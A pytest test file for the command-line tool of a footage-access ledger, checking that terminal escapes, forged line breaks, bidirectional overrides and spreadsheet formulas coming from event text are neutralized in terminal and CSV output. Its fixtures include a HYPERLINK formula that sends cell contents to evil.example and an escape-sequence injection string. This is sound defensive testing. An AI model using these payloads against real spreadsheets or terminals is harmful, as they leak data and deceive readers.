"""The investigators' answers mean what they say: unknown is unknown, CSV is CSV, event text is inert.

The platforms write the names, units and reasons the answers print, and they are among the people
the ledger judges: a reason may carry terminal escape sequences, a line break that forges a row,
a bidirectional override that reorders what an investigator reads, or a spreadsheet formula.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest

from ledger.app.config import Config
from ledger.cli import main
from ledger.cli.output import clean, csv_cell
from tests.events import ACTOR, CAMERA, T0, ingest, publisher, registered_source, viewed

pytestmark = pytest.mark.kafka

HOSTILE = "巡查\x1b[2J\x1b[31m OK\r\nforged row\u202e fdp.exe"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
WINDOW = ["--from", T0.isoformat(), "--to", (T0 + timedelta(hours=2)).isoformat()]


@pytest.fixture
def views(env: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> Config:
    """A ledger of a few accesses (one with a hostile reason, one with a formula), projected."""
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    config = Config.from_env(env)
    registered_source(config)
    with publisher(config) as pub:
        pub.publish("FootageViewed", viewed(0, reason=HOSTILE), actor=ACTOR, occurred_at=T0)
        pub.publish("FootageViewed", viewed(1, reason=FORMULA), actor=ACTOR, occurred_at=T0)
        pub.publish(
            "FootageExported",
            {
                "access": viewed(2, case_number="A-7", legal_basis="刑事诉讼法")["access"],
                "destination": "-2+3",
                "format": "mp4",
                "watermark_id": None,
                "file_hash": None,
            },
            actor={**ACTOR, "role": "investigator"},
            occurred_at=T0,
        )
    ingest(config)
    assert main(["project"]) == 0
    return config


def test_text_from_events_is_escaped_on_the_terminal(
    views: Config, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(["who", "--camera", CAMERA, *WINDOW]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "\u202e" not in out
    assert "\r" not in out
    assert "\\x1b[2J\\x1b[31m OK\\x0d\\x0aforged row\\u202e fdp.exe" in out
    assert all(not line.startswith("forged row") for line in out.splitlines())


def test_csv_is_valid_with_a_header_first_and_no_formula(
    views: Config, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(["who", "--camera", CAMERA, *WINDOW, "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 3
    assert {row["reason"] for row in rows} >= {"'" + FORMULA}
    assert all(row["occurred_at"].endswith("+08:00") for row in rows)
    assert all(row["origin"] and row["idx"].isdigit() for row in rows)
    hostile = next(row for row in rows if row["reason"].startswith("巡查"))
    assert "\x1b" not in hostile["reason"]
    export = next(row for row in rows if row["action"] == "export")
    assert export["destination"] == "'-2+3"
    # an empty answer is still CSV: the header alone
    capsys.readouterr()
    assert main(["who", "--camera", CAMERA, "--from", "2020-01-01", "--to", "2020-01-02", "--csv"]) == 0
    assert capsys.readouterr().out.splitlines()[0].startswith("occurred_at,logged_at,action,actor_id")


def test_violation_csv_names_evidence_as_ledger_positions(
    views: Config, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(["violations", "--rule", "r6", "--csv"]) == 0  # lower case works
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["rule"] for row in rows] == ["R6"]
    assert rows[0]["evidence"].count("#") == 1
    origin, index = rows[0]["evidence"].split("#")
    assert origin.startswith("liuhen/")
    assert index.isdigit()
    assert main(["violations", "--rule", "r6", "--json"]) == 0
    (row,) = json.loads(capsys.readouterr().out)
    assert row["rule"] == "R6"
    assert row["occurred_at"].endswith("+08:00")


def test_unknown_camera_person_case_and_rule_say_so(
    views: Config, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(["who", "--camera", "43020200001310009999", *WINDOW]) == 1
    assert "camera 43020200001310009999 is unknown" in capsys.readouterr().err
    assert main(["actor", "nobody", *WINDOW]) == 1
    assert "person nobody is unknown" in capsys.readouterr().err
    assert main(["case", "Z-404"]) == 1
    assert "Z-404 is unknown" in capsys.readouterr().err
    assert main(["violations", "--rule", "R99"]) == 2
    assert "'R99' is not a rule: the rules are R1, R2" in capsys.readouterr().err
    assert main(["violations", "--severity", "low"]) == 2
    # a known camera with nothing in the window is an answer, not an error
    assert main(["who", "--camera", CAMERA, "--from", "2020-01-01", "--to", "2020-01-02"]) == 0
    assert capsys.readouterr().out.strip() == "nothing found"


def test_case_shows_times_in_china_time(views: Config, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    assert main(["case", "A-7"]) == 0
    out = capsys.readouterr().out
    assert "+08:00" in out
    assert "export" in out


def test_clean_and_csv_cell_neutralize_what_they_must() -> None:
    assert clean("a\x00b\x07c\x9bd\u2066e") == "a\\x00b\\x07c\\u009bd\\u2066e"
    assert clean("张伟 (u1024)") == "张伟 (u1024)"
    for formula in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(formula).startswith("'")
    assert csv_cell("line\nbreak") == "line\nbreak"  # kept: CSV quotes it
    assert csv_cell(-5) == -5  # numbers are numbers
    assert csv_cell([["liuhen/t/0", 3], ["liuhen/t/1", 4]]) == "liuhen/t/0#3;liuhen/t/1#4"
    assert csv_cell(None) == ""
